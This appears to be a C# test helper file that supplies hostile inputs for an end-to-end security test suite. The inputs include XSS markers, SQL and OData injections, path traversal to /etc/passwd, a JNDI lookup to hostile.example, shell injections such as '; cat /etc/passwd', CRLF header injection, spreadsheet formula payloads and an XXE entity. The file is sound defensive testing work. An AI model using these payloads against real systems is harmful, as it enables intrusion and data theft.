using System.Security.Cryptography;
using System.Text;

namespace Outcomes.EndToEnd.Tests.Hostile;

/// <summary>
/// The hostile values the suite sends, as tables, and a seeded picker: the same run sends the same inputs every time.
/// </summary>
internal static class HostileText
{
    /// <summary>Markup that must never come back as markup. Each has a core that only a raw echo contains.</summary>
    public static readonly string[] Markers =
    [
        "<script>hostile(1)</script>",
        "\"><img src=x onerror=hostile(2)>",
        "'><svg onload=hostile(3)>",
    ];

    public static readonly string[] MarkerCores = ["<script>hostile(", "<img src=x onerror=hostile(", "<svg onload=hostile("];

    /// <summary>The <paramref name="n"/>-th marker: the three kinds in turn, each numbered, so that one request can carry many and an echo says which.</summary>
    public static string Marker(int n) => (n % 3) switch
    {
        0 => $"<script>hostile({n})</script>",
        1 => $"\"><img src=x onerror=hostile({n})>",
        _ => $"'><svg onload=hostile({n})>",
    };

    /// <summary>SQL, OData filter, path traversal, template, shell, header, formula and markup injections.</summary>
    public static readonly string[] Injections =
    [
        "' OR '1'='1", "1; DROP TABLE Procedures;--", "\" OR \"\"=\"", "admin'--",
        "' or 1 eq 1", "' or PartitionKey ne '", "x') or (RowKey gt '", "PartitionKey eq 'x' or true",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/dev/zero", "file:///etc/passwd",
        "${jndi:ldap://hostile.example/a}", "{{7*7}}", "<%= 7*7 %>", "$(id)", "`id`", "; cat /etc/passwd",
        "\r\nSet-Cookie: hostile=1", "%0d%0aX-Hostile: 1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "{\"$ne\": null}", "__proto__", "<!--", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        .. Markers,
    ];

    /// <summary>Lone UTF-16 surrogates as JSON escapes (what a JSON body can carry; no UTF-8 can).</summary>
    public static readonly string[] SurrogateEscapes = ["\\ud800", "\\udfff", "\\ud800\\ud800", "\\udc00\\ud800", "\\ud83d", "x\\ude00y"];

    /// <summary>Byte sequences that are not UTF-8: stray bytes, overlong forms, an encoded surrogate, cut-off sequences, past U+10FFFF.</summary>
    public static readonly (string Name, byte[] Bytes)[] InvalidUtf8 =
    [
        ("0xFF", [0xFF]), ("0xFE 0xFF", [0xFE, 0xFF]), ("continuation 0x80", [0x80]), ("overlong '/' 0xC0 0xAF", [0xC0, 0xAF]),
        ("overlong NUL 0xC0 0x80", [0xC0, 0x80]), ("encoded surrogate 0xED 0xA0 0x80", [0xED, 0xA0, 0x80]),
        ("cut-off 0xE2 0x82", [0xE2, 0x82]), ("past U+10FFFF 0xF4 0x90 0x80 0x80", [0xF4, 0x90, 0x80, 0x80]), ("five-byte 0xF8 0x88 0x80 0x80 0x80", [0xF8, 0x88, 0x80, 0x80, 0x80]),
    ];

    /// <summary>Control characters (C0, DEL, C1), NUL first.</summary>
    public static readonly string[] ControlCharacters = ["\u0000", "\u0001", "\u0008", "\u000b", "\u001b", "\u007f", "\u0080", "\u009f"];

    /// <summary>A value of 60 KB (under the 64 KiB body limit with the rest of a body around it).</summary>
    public static readonly string Huge = string.Concat(Enumerable.Repeat("h0stile-60k-", 60 * 1024 / 12));

    /// <summary>A run of <see cref="Huge"/> that a bounded excerpt cannot hold: seeing it means the value came back whole.</summary>
    public static string HugeRun => Huge[..600];

    /// <summary>Route values: whitespace, encoded separators and dots, NUL, bad UTF-8, injections, the very long; already percent-encoded.</summary>
    public static readonly string[] RouteValues =
    [
        "%20", "%20%20%20", "%09", "%0A", "%0D%0A", "%0B", "%00", "a%00b", "%2F", "a%2Fb", "%5C", "%2E", "%2E%2E", "...",
        "..%2F..%2F..%2Fetc%2Fpasswd", "%2E%2E%5C%2E%2E%5Cwin.ini", "%C0%AE%C0%AE%C0%AF", "%FF%FE", "%ED%A0%80", "%E2%80%8B",
        "%EF%BB%BF", "%E2%80%AE", "%C2%A0", "%F0%9F%92%A9", "%25", "%2525", "%25%32%46", "%3Cscript%3Ehostile(1)%3C%2Fscript%3E",
        "%22%3E%3Cimg%20src%3Dx%20onerror%3Dhostile(2)%3E", "'%20or%201%20eq%201", "'%20or%20'1'%3D'1", "1%3B%20DROP%20TABLE%20Procedures",
        "PartitionKey%20ne%20''", "*", "%2A", "null", "undefined", "0", "-1", "NaN", "true", "%7B%7D", "%5B%5D", "a%23b", "a%3Fb",
        "a%3Bb", "~", "CON", "aux", new string('a', 600), new string('a', 5000), new string('b', 9000),
    ];

    /// <summary>Picks <paramref name="count"/> of <paramref name="items"/>, the same ones for the same seed.</summary>
    public static IReadOnlyList<T> Pick<T>(IReadOnlyList<T> items, int count, int seed)
    {
        if (count >= items.Count) return items;
        var random = new Random(seed);
        return items.Select(item => (item, key: random.Next())).OrderBy(p => p.key).Take(count).Select(p => p.item).ToList();
    }

    /// <summary>A deterministic string of URL-safe letters, for forged keys and signatures.</summary>
    public static string Letters(Random random, int length)
    {
        const string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        return new string(Enumerable.Range(0, length).Select(_ => alphabet[random.Next(alphabet.Length)]).ToArray());
    }

    /// <summary>Percent-encodes every byte of the UTF-8 text except unreserved characters, for paths, queries and forms.</summary>
    public static string Encode(string text)
    {
        var encoded = new StringBuilder();
        foreach (var b in Encoding.UTF8.GetBytes(text))
            encoded.Append(char.IsAsciiLetterOrDigit((char)b) || b is (byte)'-' or (byte)'.' or (byte)'_' or (byte)'~' ? ((char)b).ToString() : $"%{b:X2}");
        return encoded.ToString();
    }

    /// <summary>Twilio's signature of a form post, as Twilio computes it (URL, then each name and value sorted by name).</summary>
    public static string TwilioSignature(string url, IEnumerable<KeyValuePair<string, string>> form)
    {
        var signed = new StringBuilder(url);
        foreach (var (name, value) in form.OrderBy(p => p.Key, StringComparer.Ordinal).ThenBy(p => p.Value, StringComparer.Ordinal))
            signed.Append(name).Append(value);
        return Convert.ToBase64String(HMACSHA1.HashData(Encoding.UTF8.GetBytes(HostileHost.TwilioAuthToken), Encoding.UTF8.GetBytes(signed.ToString())));
    }

    public static byte[] Form(IEnumerable<KeyValuePair<string, string>> fields) =>
        Encoding.ASCII.GetBytes(string.Join("&", fields.Select(f => $"{Encode(f.Key)}={Encode(f.Value)}")));

    /// <summary>A short, printable account of an input for the report: control characters and long runs shown as such.</summary>
    public static string Show(string text, int max = 90)
    {
        var shown = new StringBuilder();
        foreach (var c in text.Length > max ? text[..max] : text)
            shown.Append(c switch
            {
                < ' ' or '\u007f' or (>= '\u0080' and <= '\u009f') => $"\\u{(int)c:x4}",
                >= '\ud800' and <= '\udfff' => $"\\u{(int)c:x4}",
                _ => c.ToString(),
            });
        return text.Length > max ? $"{shown}…({text.Length} chars)" : shown.ToString();
    }
}
